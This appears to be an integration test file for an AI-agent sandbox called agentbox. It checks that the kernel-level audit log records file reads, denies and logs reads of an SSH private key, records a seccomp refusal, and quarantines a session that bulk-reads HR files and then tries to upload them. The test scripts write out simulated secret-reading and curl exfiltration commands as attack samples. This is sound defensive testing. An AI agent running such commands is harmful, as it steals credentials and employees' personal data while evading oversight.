/**
 * What the kernel sees of a real box (process runtime: bubblewrap, fanotify on the grant
 * mounts, the audit subsystem), driven through the CLI:
 * - reads of granted files are in the audit log, aggregated per grant with per-path counts;
 * - the agent's very first read is there too: the agent is held until the watchers run;
 * - a denied read of ~/.ssh/id_ed25519 is in the log and the end-of-session summary with
 *   the rule that decided (the one `explain` names), and in the live --verbose view;
 * - a seccomp refusal (unshare) is recorded with its system call;
 * - a bulk read under an HR folder, then an upload, trips the organizer preset's monitor
 *   rule: the upload never reaches the server, the session is quarantined;
 * - the manifest's own monitor rules without observation (--no-observe) fail closed.
 *
 * Attack: an agent that reads, or tries to read, a secret and hopes nobody sees.
 * Defence: the kernel reports it (Landlock, seccomp, the failed call), the launcher
 * attributes it to the box by pid namespace and writes it with its rule.
 * Attack: read HR files in bulk and send them out. Defence: the behaviour rule cuts
 * egress synchronously before the upload is dialled, then freezes the box.
 */
import { execa } from 'execa';
import { chmodSync, chownSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BIN } from '../test/helpers/cli.js';

const UID = 64000;
const base = mkdtempSync(join(tmpdir(), 'agentbox-observe-'));
chmodSync(base, 0o755);
const home = join(base, 'home');
const state = join(base, 'state');
const env = { NO_COLOR: '1', AGENTBOX_STATE_DIR: state };
const run = (args: string[], extra: Record<string, string> = {}) => execa(process.execPath, [BIN, ...args], { reject: false, stdin: 'ignore', env: { ...env, ...extra } });
type Entry = { session: string; action: string; decision: string; reason: string; resource: string; details?: Record<string, unknown> };
const audit = (session?: string) => readFileSync(join(state, 'audit.jsonl'), 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as Entry).filter((e) => !session || e.session === session);
const sessionOf = (stderr: string) => /session (\S+) (?:ended|quarantined)/.exec(stderr)?.[1] ?? '';

let server: Server;
let port = 0;
const received: string[] = [];

function manifest(name: string, extra = ''): string {
  const f = join(base, `${name}.yaml`);
  writeFileSync(f, `apiVersion: agentbox/v1\nkind: Agent\nmetadata: { name: ${name} }\nextends: [organizer]\nagent: { command: [/bin/sh] }\ncapabilities:\n  - fs:read:~/Documents\n  - exec:/usr/bin\n  - net:connect:127.0.0.1:${port}\n${extra}`);
  return f;
}

beforeAll(async () => {
  for (const d of ['Documents', 'Documents/HR', '.ssh']) mkdirSync(join(home, d), { recursive: true });
  chmodSync(home, 0o755);
  for (let i = 0; i < 40; i++) writeFileSync(join(home, 'Documents', 'HR', `employee-${i}.txt`), `employee ${i}: salary ${1000 + i}\n`);
  writeFileSync(join(home, 'Documents', 'first.txt'), 'first\n');
  writeFileSync(join(home, 'Documents', 'notes.txt'), 'notes\n');
  writeFileSync(join(home, '.ssh', 'id_ed25519'), 'not a real key\n', { mode: 0o600 });
  chownSync(join(home, '.ssh', 'id_ed25519'), UID, UID);
  server = createServer((req, res) => {
    received.push(`${req.method} ${req.url}`);
    req.resume();
    req.on('end', () => res.end('ok'));
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  port = (server.address() as AddressInfo).port;
});

afterAll(async () => {
  await new Promise((r) => server.close(r));
});

describe('the kernel\'s view of a process box', () => {
  it('aggregates reads of granted files per grant, from the agent\'s very first read', async () => {
    const m = manifest('observe-reads');
    const r = await run(['launch', m, '--home', home, '--', '/bin/sh', '-c', 'cat ~/Documents/first.txt >/dev/null; for i in 1 2 3; do cat ~/Documents/notes.txt >/dev/null; done']);
    expect(r.exitCode, r.stderr).toBe(0);
    const s = sessionOf(r.stderr);
    const launch = audit(s).find((e) => e.action === 'launch')!;
    expect(launch.details?.observed).toEqual({ files: true, denials: true });
    const act = audit(s).filter((e) => e.action === 'fs.activity');
    expect(act.map((e) => e.resource)).toEqual([join(home, 'Documents')]);
    const d = act[0]!.details as { files: number; reads: number; paths: { first: string[] } };
    expect(d.files).toBe(2);
    expect(d.reads).toBe(4);
    expect(d.paths.first).toEqual([`${join(home, 'Documents', 'notes.txt')} r3 w0 x0`, `${join(home, 'Documents', 'first.txt')} r1 w0 x0`]);
    expect(r.stderr).toMatch(/files: 2 touched \(4 reads, 0 writes, 0 runs\)/);
  }, 60_000);

  it('records a denied read of ~/.ssh/id_ed25519 with its rule in the log, the summary and --verbose; and a seccomp refusal', async () => {
    const m = manifest('observe-denied');
    const r = await run(['launch', m, '--home', home, '--verbose', '--', '/bin/sh', '-c', 'cat ~/.ssh/id_ed25519; cat ~/.ssh/id_ed25519; cat ~/.ssh/id_ed25519; unshare -U true; true']);
    expect(r.exitCode, r.stderr).toBe(0);
    const s = sessionOf(r.stderr);
    const rule = 'deny fs:~/.ssh from preset organizer';
    // explain gives the same rule.
    const ex = await run(['explain', m, '--home', home, `fs:read:${join(home, '.ssh', 'id_ed25519')}`]);
    expect(ex.stdout).toContain('fs:~/.ssh');
    expect(ex.stdout).toContain('preset organizer');
    const denied = audit(s).filter((e) => e.action === 'fs.denied');
    expect(denied).toEqual([expect.objectContaining({ resource: join(home, '.ssh', 'id_ed25519'), decision: 'deny', reason: `read ~/.ssh/id_ed25519 (${rule})` })]);
    const summary = audit(s).find((e) => e.action === 'denials.summary')!;
    expect((summary.details as { denials: { first: string[] } }).denials.first).toContain(`read ~/.ssh/id_ed25519 ×3 (${rule})`);
    expect(r.stderr).toContain(`denied: read ~/.ssh/id_ed25519 ×3 (${rule})`);
    expect(r.stderr).toContain(`agentbox: denied read ~/.ssh/id_ed25519 (${rule})`);
    expect(audit(s).some((e) => e.action === 'syscall.denied' && e.resource === 'unshare' && (e.details as { layer: string }).layer === 'seccomp')).toBe(true);
    // The log still verifies with the new entries in it.
    expect((await run(['audit', 'verify'])).exitCode).toBe(0);
  }, 60_000);

  it('a bulk read of HR files, then an upload, trips the monitor rule: the upload never arrives and the session is quarantined', async () => {
    const m = manifest('observe-monitor');
    const before = received.length;
    const child = execa(process.execPath, [BIN, 'launch', m, '--home', home, '--', '/bin/sh', '-c', `cat ~/Documents/HR/*.txt > /tmp/all; curl -s -m 5 -X POST --data-binary @/tmp/all http://127.0.0.1:${port}/upload; echo curl=$?; sleep 30`], { reject: false, stdin: 'ignore', env });
    let s = '';
    for (let i = 0; i < 200 && !s; i++) {
      await new Promise((x) => setTimeout(x, 100));
      s = audit().find((e) => e.action === 'monitor.tripped' && e.resource === 'hr-bulk-read-then-upload')?.session ?? '';
    }
    expect(s, 'the monitor tripped').not.toBe('');
    for (let i = 0; i < 100 && !audit(s).some((e) => e.action === 'quarantine.frozen'); i++) await new Promise((x) => setTimeout(x, 100));
    const entries = audit(s);
    const trip = entries.find((e) => e.action === 'monitor.tripped')!;
    expect(trip.details).toMatchObject({ rule: 'hr-bulk-read-then-upload', from: 'preset organizer', files: 40, upload: `127.0.0.1:${port}`, onTrip: 'quarantine' });
    expect(entries.some((e) => e.action === 'quarantine.frozen')).toBe(true);
    expect(received.slice(before)).toEqual([]);
    expect((await run(['kill', s])).exitCode).toBe(0);
    await child;
    expect(received.slice(before)).toEqual([]);
  }, 90_000);

  it('the manifest\'s own monitor rules fail closed when the box is not observed', async () => {
    const m = manifest('observe-off', `monitor:\n  - name: any-bulk\n    reads: { under: [~/Documents], files: 5, withinSeconds: 60 }\n    onTrip: block\n`);
    const r = await run(['launch', m, '--home', home, '--no-observe', '--', '/bin/true']);
    expect(r.exitCode).toBe(4);
    expect(r.stderr).toMatch(/monitor rules of observe-off \(any-bulk\) cannot be enforced/);
    // The preset's default is only reported as not enforced; the session runs.
    const p = await run(['launch', manifest('observe-off-preset'), '--home', home, '--no-observe', '--', '/bin/true']);
    expect(p.exitCode, p.stderr).toBe(0);
    expect(p.stderr).toMatch(/preset's monitor rules \(hr-bulk-read-then-upload\) are not enforced: turned off \(--no-observe\)/);
  }, 60_000);
});
